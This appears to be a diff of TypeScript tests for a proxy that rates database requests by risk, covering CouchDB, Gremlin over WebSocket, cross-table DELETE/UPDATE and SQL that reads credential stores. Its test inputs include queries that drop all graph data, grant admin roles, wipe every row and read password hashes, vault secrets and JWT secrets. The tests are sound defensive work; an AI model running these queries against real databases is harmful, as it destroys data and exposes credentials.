+  // Controls: a document written or deleted by id, a database created, compaction, reads.
+  const controls: Array<[string | undefined, Call]> = [
+    ['medium', { method: 'PUT', url: `${couch}/users/doc1`, body: { a: 1 } }],
+    ['medium', { method: 'DELETE', url: `${couch}/users/doc1?rev=1-x` }],
+    ['medium', { method: 'PUT', url: `${couch}/newdb` }],
+    ['medium', { method: 'POST', url: `${couch}/users/_compact` }],
+    ['medium', { method: 'POST', url: `${couch}/users/_bulk_docs`, body: { docs: [{ _id: 'a', v: 1 }] } }],
+    ['medium', { method: 'DELETE', url: `http://${SQL_HOST}/users` }],
+    [undefined, { method: 'GET', url: `${couch}/users/_security` }],
+    [undefined, { method: 'GET', url: `${couch}/_node/_local/_config` }],
+  ];
+  for (const [risk, c] of controls) t.equal((await send(c)).decision.approval?.risk, risk, `control: ${c.method} ${c.url}`);
+});
+
+t.test('twenty-seventh pass: Gremlin over a WebSocket is read as Gremlin, a script or GraphSON bytecode, whatever its words', async (t) => {
+  // Left open by the twenty-sixth pass: Gremlin Server's WebSocket request `{op, args: {gremlin}}`
+  // went on undecided (a script's `drop` was judged as a POST whose reader took a top-level
+  // `gremlin` only; `property(…)` and bytecode named no SQL word). Each message as the tunnel
+  // reads it, judged as the proxy judges a carried statement (no SQL found: relayed).
+  const url = `http://${SQL_HOST}:8182/gremlin`;
+  const bc = (steps: unknown[]): unknown => ({ '@type': 'g:Bytecode', '@value': { step: steps } });
+  const int = (n: number): unknown => ({ '@type': 'g:Int64', '@value': n });
+  const framed = (mime: string, o: unknown): Buffer => Buffer.concat([Buffer.from([mime.length]), Buffer.from(mime), Buffer.from(JSON.stringify(o))]);
+  const judged = async (data: Buffer, binary: boolean): Promise<string> => {
+    const r = new JsonMessagesReader().read(data, binary);
+    if (r.refused) return 'refused';
+    let worst = 'relayed';
+    for (const s of r.statements) {
+      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: s.raw ?? JSON.stringify(s.body) });
+      if (description.sql) worst = decision.approval?.risk ?? decision.action;
+    }
+    return worst;
+  };
+  const every = [
+    { script: 'g.V().drop()', steps: [['V'], ['drop']] },
+    { script: "g.V().hasLabel('User').drop().iterate()", steps: [['V'], ['hasLabel', 'User'], ['drop']] },
+    { script: "g.V().property('role', 'admin')", steps: [['V'], ['property', 'role', 'admin']] },
+    { script: "g.E().has('since').drop()", steps: [['E'], ['has', 'since'], ['drop']] },
+    { script: "g.V().has('age', P.gte(-1000000000000)).property('role', 'admin')", steps: [['V'], ['has', 'age', { '@type': 'g:P', '@value': { predicate: 'gte', value: { '@type': 'g:Int32', '@value': -2147483648 } } }], ['property', 'role', 'admin']] },
+    { script: 'g.V().sideEffect{ it.get().remove() }', steps: [['V'], ['sideEffect', { '@type': 'g:Lambda', '@value': { script: 'it.get().remove()', language: 'gremlin-groovy', arguments: 1 } }]] },
+  ];
+  const shape = fc.record({ k: fc.integer({ min: 0, max: every.length - 1 }), bytecode: fc.boolean(), wire: fc.constantFrom('text', 'v3', 'v2', 'json'), id: fc.uuid() });
+  await fc.assert(fc.asyncProperty(shape, async ({ k, bytecode, wire, id }) => {
+    const e = every[k]!;
+    const msg = bytecode ? { requestId: { '@type': 'g:UUID', '@value': id }, op: 'bytecode', processor: 'traversal', args: { gremlin: bc(e.steps), aliases: { g: 'g' } } }
+      : { requestId: id, op: 'eval', processor: '', args: { gremlin: e.script, language: 'gremlin-groovy' } };
+    const data = wire === 'text' ? Buffer.from(JSON.stringify(msg)) : framed(wire === 'v3' ? 'application/vnd.gremlin-v3.0+json' : wire === 'v2' ? 'application/vnd.gremlin-v2.0+json' : 'application/json', msg);
+    t.equal(await judged(data, wire !== 'text'), 'critical', `${wire} ${bytecode ? JSON.stringify(e.steps) : e.script}`);
+  }), { numRuns: 20, ...seed });
+  // GraphBinary is not read: a step that writes refused, a read relayed.
+  const gb = (word: string): Buffer => Buffer.concat([Buffer.from([32]), Buffer.from('application/vnd.graphbinary-v1.0'), Buffer.from([0x81, 0, 0, 0, word.length]), Buffer.from(word)]);
+  t.equal(await judged(gb('drop'), true), 'refused');
+  t.equal(await judged(gb('V'), true), 'relayed');
+  // Controls: a vertex by id dropped, a property of one set, reads, a session's authentication.
+  t.equal(await judged(framed('application/vnd.gremlin-v3.0+json', { requestId: 'r', op: 'bytecode', processor: 'traversal', args: { gremlin: bc([['V', int(5)], ['drop']]) } }), true), 'medium');
+  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'eval', args: { gremlin: "g.V(7).property('name', 'x')" } })), false), 'medium');
+  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'bytecode', processor: 'traversal', args: { gremlin: bc([['V'], ['hasLabel', 'User'], ['valueMap']]) } })), false), 'relayed');
+  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'eval', args: { gremlin: "g.V().has('name', 'drop table tennis').count()" } })), false), 'relayed');
+  t.equal(await judged(Buffer.from(JSON.stringify({ requestId: 'r', op: 'authentication', args: { sasl: 'AHVzZXIAcGFzcw==' } })), false), 'relayed');
+});
+
+t.test('twenty-seventh pass: a WHERE that names only another table\'s columns touches every row or none', async (t) => {
+  // `DELETE FROM users USING orders o WHERE o.id = 1`, an UPDATE … FROM, an uncorrelated EXISTS,
+  // IN or count: each a narrow medium write, each deleting or updating every row of a real
+  // PostgreSQL 15 (the twenty-second pass's PostgreSQL test) when order 1 exists.
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...otherTableOnly), fc.constantFrom(SUPABASE, NEON, GENERIC, D1), fc.boolean(), async (sql, url, lower) => {
+    const text = lower ? sql.replace(/\b(DELETE|FROM|USING|WHERE|UPDATE|SET|EXISTS|SELECT|IN|AND)\b/g, (w) => w.toLowerCase()) : sql;
+    // SQLite has no DELETE … USING or UPDATE … FROM of this shape: D1 takes the subquery forms.
+    fc.pre(url !== D1 || !/USING|FROM orders o WHERE o\.id/.test(sql));
+    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === D1 ? { sql: text } : { query: text }) });
+    t.equal(decision.approval?.risk, 'critical', `${url} ${text}`);
+  }), { numRuns: 20, ...seed });
+  for (const sql of otherTableControls) {
+    for (const url of [SUPABASE, GENERIC]) {
+      const { description } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
+      t.notOk(description.sql?.destructive, `control: ${url} ${sql}`);
+    }
+  }
+});
+
+t.test('twenty-seventh pass: reading the database\'s own credential stores is reading secrets, in each dialect', async (t) => {
+  // Each was an allowed read (Supabase's and Neon's SELECTs, a GET's `?sql=`, ClickHouse's GET):
+  // role password hashes, user mappings' passwords to other servers, Vault's decrypted secrets, a
+  // JWT secret kept as a setting, MySQL's accounts, ClickHouse's named collections, DuckDB's secrets.
+  const reads = fc.record({
+    sql: fc.constantFrom('SELECT name, decrypted_secret FROM vault.decrypted_secrets', 'SELECT rolname, rolpassword FROM pg_authid', 'select * from pg_catalog.pg_shadow',
+      'SELECT srvname, umoptions FROM pg_user_mappings', "SELECT current_setting('app.settings.jwt_secret')", 'SHOW app.settings.jwt_secret',
+      "SELECT id FROM users WHERE EXISTS (SELECT 1 FROM vault.secrets)", 'SELECT * FROM information_schema.user_mapping_options'),
+    url: fc.constantFrom(SUPABASE, NEON, GENERIC, 'get'),
+  });
+  await fc.assert(fc.asyncProperty(reads, async ({ sql, url }) => {
+    const r = url === 'get' ? { method: 'GET', url: `${GENERIC}?sql=${encodeURIComponent(sql)}` } : { url, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ query: sql }) };
+    t.equal((await decide(r)).decision.approval?.risk, 'critical', `${url} ${sql}`);
+  }), { numRuns: 20, ...seed });
+  for (const sql of ['SELECT user, authentication_string FROM mysql.user', 'SELECT * FROM duckdb_secrets()', "SELECT current_setting('motherduck_token')", 'SELECT * FROM system.named_collections']) {
+    t.equal((await decide({ method: 'GET', url: `http://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}` })).decision.approval?.risk, 'critical', `unknown dialect: ${sql}`);
+  }
+  for (const sql of ['SELECT * FROM pg_roles', "SELECT current_setting('search_path')", 'SELECT * FROM secrets', 'SHOW search_path', 'SELECT id FROM users']) {
+    t.equal((await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) })).decision.action, 'allow', `control: ${sql}`);
   }
 });
